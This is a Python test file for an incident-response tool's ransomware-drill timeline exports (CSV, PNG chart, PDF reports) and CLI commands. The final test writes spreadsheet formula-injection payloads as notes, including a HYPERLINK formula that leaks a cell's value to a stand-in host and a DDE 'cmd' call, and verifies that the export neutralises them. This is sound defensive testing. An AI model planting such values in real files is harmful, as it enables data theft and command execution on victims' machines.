"""Timeline exports (CSV for Excel, PNG chart) and the report commands of the CLI."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from PIL import Image

from app.cli import main
from app.services.reports import write_timeline_csv, write_timeline_png
from app.services.workspace import Workspace
from tests.reports.conftest import pdf_text, ransomware, title


def test_csv_has_a_bom_and_one_row_per_entry(
    workspace: Workspace, drill: str, tmp_path: Path
) -> None:
    count = workspace.incidents.state(drill).entries
    out = tmp_path / "timeline.csv"
    write_timeline_csv(workspace, drill, out, actor="記録 係")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:4] == ["番号", "発生時刻 (JST)", "記録時刻 (JST)", "種別"]
    assert len(rows) == count + 1
    isolate = next(r for r in rows if r[7] == "isolate")
    assert isolate[3] == "手順完了" and title(ransomware(workspace), "isolate") in isolate[8]
    assert "端末名: FIN-PC-023" in isolate[8]
    entries = workspace.incidents.entries(drill)
    assert rows[-1][12] == entries[-2].hash  # the export itself is logged after the last row
    assert rows[0][13] == "区分" and {r[13] for r in rows[1:]} == {"訓練"}  # a drill, every row
    assert entries[-1].kind == "report_issued"


def test_png_is_a_real_image_of_the_chart(workspace: Workspace, drill: str, tmp_path: Path) -> None:
    out = tmp_path / "chart.png"
    write_timeline_png(workspace, drill, out)
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    with Image.open(out) as image:
        width, height = image.size
        assert width == 1600 and 150 < height < 1600
        colours = image.convert("RGB").getcolors(maxcolors=1 << 20)
        assert colours is not None and len(colours) > 20  # drawn, not a blank canvas


def test_cli_report_print_timeline_and_demo(
    workspace: Workspace, drill: str, data_dir: Path, tmp_path: Path, capsys: object
) -> None:
    workspace.close()
    base = ["--data-dir", str(data_dir)]
    record = tmp_path / "record.pdf"
    assert main([*base, "report", drill, "--out", str(record), "--actor", "記録 係"]) == 0
    assert "インシデント対応記録" in pdf_text(record)
    aar = tmp_path / "aar.pdf"
    assert main([*base, "report", drill, "--out", str(aar), "--kind", "after-action"]) == 0
    assert "事後検証報告書" in pdf_text(aar)
    paper = tmp_path / "paper.pdf"
    assert main([*base, "print", "ransomware", "--out", str(paper)]) == 0
    assert "対応チェックリスト" in pdf_text(paper)
    csv_out, png_out = tmp_path / "t.csv", tmp_path / "t.png"
    assert main([*base, "timeline", drill, "--csv", str(csv_out), "--png", str(png_out)]) == 0
    assert csv_out.stat().st_size > 100 and png_out.stat().st_size > 1000
    assert main([*base, "report", "2026-9999", "--out", str(tmp_path / "no.pdf")]) == 1
    assert main([*base, "print", "no_such_plan", "--out", str(tmp_path / "no.pdf")]) == 1
    assert not (tmp_path / "no.pdf").exists()
    # Without --csv or --png the timeline is printed, in the words of the screen and the paper.
    capsys.readouterr()  # type: ignore[attr-defined]
    assert main([*base, "timeline", drill]) == 0
    printed = capsys.readouterr().out.splitlines()  # type: ignore[attr-defined]
    assert [line.split()[0] for line in printed] == [f"#{n}" for n in range(1, len(printed) + 1)]
    isolate = next(line for line in printed if title(ransomware(workspace), "isolate") in line)
    assert "手順完了" in isolate and "端末名: FIN-PC-023" in isolate
    assert any("取消済(#" in line for line in printed)
    assert main([*base, "--lang", "en", "timeline", drill]) == 0
    english = capsys.readouterr().out  # type: ignore[attr-defined]
    assert "Step done" in english and "Host name: FIN-PC-023" in english
    demo = tmp_path / "demo.pdf"
    assert main(["--data-dir", str(tmp_path / "demo"), "demo", "--out", str(demo)]) == 0
    text = pdf_text(demo)
    # A drill is signed off by its evaluator, not by the real approval chain.
    assert "訓練: 財務課ファイルサーバの暗号化" in text and "訓練評価欄" in text
    assert "決裁欄" not in text


def test_csv_cells_never_start_a_formula(workspace: Workspace, drill: str, tmp_path: Path) -> None:
    from app.reports.export import _inert

    notes = [
        '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
    ]
    for text in notes:
        workspace.incidents.note(drill, text, "=山田")
    out = tmp_path / "timeline.csv"
    write_timeline_csv(workspace, drill, out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    written = [r[8] for r in rows if r[4] == "noted"]
    for text in notes:
        assert "'" + text in written  # shown as typed, never evaluated
    for row in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
    assert _inert("\tx") == "'\tx" and _inert("\r=1") == "'\r=1" and _inert("a=1") == "a=1"
    assert _inert(-3) == -3  # numbers are numbers
